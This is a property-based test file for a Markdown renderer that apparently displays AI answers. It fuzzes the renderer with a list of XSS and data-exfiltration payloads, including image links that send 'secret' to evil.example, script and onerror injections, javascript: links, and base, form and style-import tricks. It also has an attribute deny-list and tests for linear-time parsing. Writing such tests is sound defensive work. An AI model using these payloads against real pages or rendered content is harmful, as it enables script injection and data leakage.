import * as fc from 'fast-check';
import type { ComponentChildren, VNode } from 'preact';
import { afterEach, expect, test } from 'vitest';
import { watchPrototypes } from '../../lib/testing/clean-prototypes.ts';
import { blocksOf, createBlockReader } from './blocks.ts';
import { Markdown } from './markdown.tsx';
import { nodesOf } from './nodes.tsx';
import { OutsideLink } from './outside-link.tsx';

afterEach(watchPrototypes());

/** Elements that answers are made of. None of them loads, runs or submits anything. */
const harmless = new Set(
  'p h3 strong em del code br hr blockquote ol ul li div table thead tbody tr th td a small span pre button svg path line math mrow mi mn mo mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd'.split(
    ' ',
  ),
);

const hostile = fc.constantFrom(
  '![x](https://evil.example/?q=secret)',
  '[r]: https://evil.example/ "t"\n',
  '![x][r]',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<iframe srcdoc="x">',
  '<svg><image href="https://evil.example/x"/></svg>',
  '<base href="https://evil.example">',
  '<link rel=preload href="https://evil.example">',
  '<form action="https://evil.example"><input name=x>',
  '<a id=config>',
  '[x](javascript:alert(1))',
  '[x](data:text/html,x)',
  '[x](java&#115;cript:alert(1))',
  '<javascript:alert(1)>',
  'https://user:pass@evil.example',
  '<style>@import "https://evil.example"</style>',
  '```html\n<img src=https://evil.example>\n',
  '\\(\\frac{a}{b}\\href{javascript:alert(1)}{x}\\)',
  '$$\\begin{matrix} a & b \\\\ ',
  '\\end{matrix}$$',
  '$x^2$',
  '|a|b|\n|-|-|\n|<img src=x>|![](https://evil.example)|\n',
);
const ordinary = fc.oneof(
  fc.string(),
  fc.constantFrom('\n', '\n\n', '* ', '> ', '- ', '1. ', '`', '**', '_', '[', ']', '(', ')', '~~', '<', '>', '&lt;', '\u202e', '\u0000'),
);

test('[H-1] [H-2] [H-3] whatever an answer holds, its nodes load nothing, run nothing and lead to http, https or mail', {
  timeout: 30_000,
}, () => {
  fc.assert(
    fc.property(fc.array(fc.oneof(hostile, ordinary), { maxLength: 25 }), (pieces) => {
      for (const { name, props } of elements(pieces.join(''))) {
        expect(harmless.has(name), name).toBe(true);
        for (const [key, value] of Object.entries(props)) {
          expect(key).not.toMatch(/^(on(?!Click$)|src|srcset|srcdoc|dangerously|action|formaction|poster|ping|id$|xlink)/i);
          if (key === 'style' && value !== undefined) expect(JSON.stringify(value)).toMatch(/^\{"textAlign":"(left|right|center)"\}$/);
          if (key === 'href') expect(String(value)).toMatch(/^(https?|mailto):/);
          if (name === 'a' && key === 'rel') expect(value).toBe('noopener noreferrer');
        }
      }
    }),
    { numRuns: 300 },
  );
});

test('[H-4] a megabyte is read in linear time: in one piece, token by token, in one line, and built to be slow', {
  timeout: 60_000,
}, () => {
  const megabyte = (unit: string) => unit.repeat(Math.ceil(1_000_000 / unit.length));
  const texts = [
    megabyte('Some **bold** words, a [link](https://x.example) and `code`.\n\n'),
    megabyte('x'),
    megabyte('- item\n'),
    megabyte('*'),
    megabyte('> '),
    megabyte('[a]('),
    megabyte('|a'),
    megabyte('```\ncode\n'),
    megabyte('<a '),
    megabyte('_a_*'),
    megabyte('1. '),
    megabyte('\\(a$b '),
    `\`\`\`${megabyte('never closed\n')}`,
  ];
  for (const text of texts) {
    // A few hundred milliseconds each; minutes where reading is quadratic.
    expect(
      time(() => nodes(text)),
      text.slice(0, 12),
    ).toBeLessThan(10_000);
  }
  const reader = createBlockReader();
  const streamed = time(() => {
    for (let at = 0; at < 1_000_000; at += 400) reader.push((texts[0] as string).slice(at, at + 400));
  });
  expect(streamed).toBeLessThan(30_000);
});

test('[H-4] of an answer that grows, only what is new is made again', { timeout: 30_000 }, () => {
  const reader = createBlockReader();
  for (let count = 0; count < 2_000; count++) reader.push(`Paragraph ${count}.\n\n`);
  const first = Markdown({ settled: reader.settled, open: reader.open }) as VNode<{ children: [VNode[], unknown] }>;
  reader.push('One more.\n\n');
  const second = Markdown({ settled: reader.settled, open: reader.open }) as VNode<{ children: [VNode[], unknown] }>;
  const [before, after] = [first.props.children[0], second.props.children[0]];
  expect(before.length).toBeGreaterThan(20);
  expect(after.slice(0, before.length - 1).every((node, index) => node === before[index])).toBe(true);
});

function nodes(text: string): ComponentChildren[] {
  return blocksOf(text).flatMap((block) => (block.type === 'markdown' ? nodesOf(block.tokens) : []));
}

/** Every element there is, components that keep no state among them opened. */
function elements(text: string): { name: string; props: Record<string, unknown> }[] {
  const found: { name: string; props: Record<string, unknown> }[] = [];
  const visit = (node: ComponentChildren): void => {
    if (Array.isArray(node)) node.forEach(visit);
    else if (typeof node === 'object' && node !== null) {
      const { type, props } = node as VNode<Record<string, unknown> & { children: ComponentChildren }>;
      if (type === OutsideLink) visit(OutsideLink(props as never));
      else if (typeof type === 'string') {
        const { children: _, ...rest } = props;
        found.push({ name: type, props: rest });
        visit(props.children);
      }
      // BlockedImage and CodeView keep a state; their own tests and e2e look at what they show.
    }
  };
  visit(nodes(text));
  return found;
}

function time(work: () => void): number {
  const startedAt = performance.now();
  work();
  return performance.now() - startedAt;
}
